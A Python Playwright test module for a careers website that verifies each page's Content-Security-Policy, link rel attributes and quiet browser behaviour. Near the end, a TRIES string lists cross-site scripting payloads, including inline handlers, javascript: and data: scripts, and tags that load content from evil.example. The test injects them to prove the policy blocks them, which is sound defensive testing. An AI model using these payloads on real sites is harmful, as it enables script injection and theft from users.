"""The content policy of the site: on every page, obeyed by all that a page does, in the way of all that it must not."""

from __future__ import annotations

import base64
import hashlib
import shutil
from collections.abc import Callable, Iterator, Mapping
from itertools import chain
from pathlib import Path

from playwright.sync_api import Browser, Page, expect
from selectolax.lexbor import LexborHTMLParser

from careers.mkdocs import read_configuration
from tests.conftest import Serve
from tests.hostile.browsing import Fault, browsing, harm
from tests.hunting import HUNTING
from tests.site.building import Result
from tests.site.kinds import LOCALISED, NEUTRAL, Kind

Addresses = Callable[[Kind, str], str]
REL = {"nofollow", "ugc", "noopener", "noreferrer"}


def pages(result: Result) -> Iterator[tuple[str, LexborHTMLParser]]:
    for path in sorted(result.folder.rglob("*.html")):
        yield path.relative_to(result.folder).as_posix(), LexborHTMLParser(path.read_bytes())


def policy_of(page: LexborHTMLParser) -> Mapping[str, list[str]]:
    """What a page's policy says; it has one, above everything but its encoding."""
    encoding, policy, *_ = page.css("head > *")
    assert encoding.attributes == {"charset": "utf-8"}
    assert policy.attributes["http-equiv"] == "Content-Security-Policy"
    assert len(page.css("[http-equiv='Content-Security-Policy']")) == 1
    return {name: rest for name, *rest in (one.split() for one in str(policy.attributes["content"]).split(";"))}


def hashes(page: LexborHTMLParser, selector: str) -> set[str]:
    """What scripts or styles that stand in the page are known by."""
    texts = (one.text() for one in page.css(selector))
    return {f"'sha256-{base64.b64encode(hashlib.sha256(one.encode()).digest()).decode()}'" for one in texts}


def test_every_page_has_its_policy(built: Result) -> None:
    """What stands in the page is known by its hash, and by nothing else is anything in a page allowed."""
    seen = []
    for url, page in pages(built):
        seen.append(url)
        policy = policy_of(page)
        assert policy["default-src"] == ["'none'"]
        assert not {"'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*", "https:"} & {*chain(*policy.values())}
        for name, inline in (("script-src", "script:not([src], [type$=json])"), ("style-src", "style")):
            assert {one for one in policy.get(name, ()) if one != "'self'"} == hashes(page, inline), url
        assert page.root is not None
        names = {name for one in page.root.traverse() for name in one.attributes}
        assert not {name for name in names if name == "style" or name.startswith("on")}, url
        if not page.css("[http-equiv=refresh]"):
            assert [one.attributes["content"] for one in page.css("meta[name=referrer]")] == ["same-origin"], url
    assert "404.html" in seen


def test_links_from_postings_lend_nothing(cases: Result) -> None:
    """Neither weight for search engines, nor a handle on the page, nor where the reader comes from."""
    own = read_configuration(cases.config).settings.repo_url  # links to edit and to report
    links = [one.attributes for _, page in pages(cases) for one in page.css("[data-posting] a[href^=http]")]
    found = [one for one in links if not str(one["href"]).startswith(own)]
    assert found
    assert [one for one in found if not {*str(one.get("rel")).split()} >= REL] == []


def settled(page: Page) -> None:
    expect(page.locator("[aria-busy=true]")).to_have_count(0)


def search(page: Page) -> None:
    """Go to the first box in sight and type, until something is suggested."""
    box = page.locator("input[name=q]:visible").first
    box.fill("c")
    expect(page.get_by_role("option").first).to_be_visible()
    box.press("Escape")


def filters(page: Page) -> None:
    settled(page)
    page.locator("[data-facet] input[type=checkbox]:visible").first.check()
    settled(page)
    page.locator("[data-jobs] input[name=q]").first.fill("zzqqxx")
    settled(page)
    expect(page.locator("[data-result-count='0']")).to_have_count(1)


def posting(page: Page) -> None:
    page.locator("[data-copy]").click()
    page.evaluate("Navigator.prototype.share = async () => {}")  # a desk has nothing to share with
    page.locator("[data-share]").dispatch_event("click")
    page.locator("article [data-save]:visible").first.click()


def shortlist(page: Page) -> None:
    expect(page.locator("[data-shortlist] [data-list] article").first).to_be_visible()
    with page.expect_download():
        page.locator("[data-export]").click()
    page.locator("[data-clear]").click()
    page.locator("dialog[data-ask] button").last.click()


ACTIONS = {"home": search, "jobs": filters, "posting": posting, "shortlist": shortlist}


def use(page: Page, kind: Kind) -> None:
    if kind.name in ACTIONS:
        ACTIONS[kind.name](page)
    page.locator("[data-scheme-switch]").click()
    page.locator("[data-scheme-switch]").click()


def quiet(kind: Kind, faults: list[Fault]) -> list[Fault]:
    """What a page must not have done: a lost address is answered by 404, and a file that is asked for is given."""
    lost = kind.name == "lost"
    return [one for one in faults if one.kind != "download" and not (lost and "404" in one.text)]


def test_readers_can_do_everything_under_the_policy(addresses: Addresses, browser: Browser, code: str) -> None:
    """Where there is something to do: no word of the policy's, no dialog, no request elsewhere, no error.

    That the other kinds of pages are quiet by themselves, the tests of all pages ask.
    """
    named = {kind.name: kind for kind in (*LOCALISED, *NEUTRAL)}
    home, current = (addresses(named[name], code) for name in ("home", "applicable"))
    allowed = ["clipboard-read", "clipboard-write"]
    with browsing(browser, home, permissions=allowed) as tab, browsing(browser, current) as small:
        for name in (*named,) if HUNTING else (*ACTIONS, "chooser", "lost"):
            address = addresses(named[name], code)
            here = small if named[name].cases else tab
            assert quiet(named[name], here.visit(address)) == [], address
            use(here.page, named[name])
            assert quiet(named[name], here.told()) == [], address
        tab.page.goto(home)
        tab.page.locator("header a[hreflang]").first.click()
        tab.page.locator("nav.p-menu a").first.click()
        expect(tab.page.locator("section[data-jobs]")).to_have_count(1)
        assert tab.told() == []
        assert small.visit(current.replace("/current/", "/first-name/")) == []
        expect(small.page).to_have_url(current)
        assert small.told() == []


# What someone could try who found a way past escaping and sanitising.
TRIES = """
<script>ran("script")</script>
<script src="https://evil.example/x.js"></script>
<script type="module">ran("module")</script>
<img src="https://evil.example/x.png" onerror="ran('handler')">
<img src="x" onerror="ran('handler')">
<svg onload="ran('svg')"></svg>
<iframe srcdoc="<script>parent.ran('frame')</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import "https://evil.example/import.css"; body { background: url(https://evil.example/picture) }</style>
<p style="background: url(https://evil.example/style)"></p>
<video src="https://evil.example/video" autoplay></video>
<base href="https://evil.example/">
<form id="f" action="https://evil.example/form"><input name="q"></form>
<a id="a" href="javascript:ran('link')">link</a>
<script src="data:text/javascript,ran('data')"></script>
<input autofocus onfocus="ran('focus')">
"""


def test_the_policy_holds_where_everything_else_gives_way(
    cases: Result, tmp_path: Path, serve: Serve, browser: Browser
) -> None:
    """A page with raw HTML of a stranger's does no harm under its policy, and does without it."""
    folder = shutil.copytree(cases.folder, tmp_path / "site")
    page = folder / "en" / "jobs" / "acme" / "current" / "index.html"
    page.write_text(page.read_text("utf-8").replace("</article>", f"{TRIES}</article>", 1), "utf-8")
    base = serve(folder)
    for policy in (True, False):
        with browsing(browser, base, policy=policy) as tab:
            tab.page.goto(base + "en/jobs/acme/current/")
            tab.page.locator("#a").evaluate("(one) => one.click()")
            tab.page.locator("#f").evaluate("(one) => one.submit()")
            seen = tab.told()
            if policy:
                assert harm(seen) == []
                assert len([one for one in seen if one.kind == "violation"]) >= TRIES.count("<") / 2
                assert tab.page.url == base + "en/jobs/acme/current/"
            else:
                assert {one.kind for one in harm(seen)} >= {"ran", "foreign"}
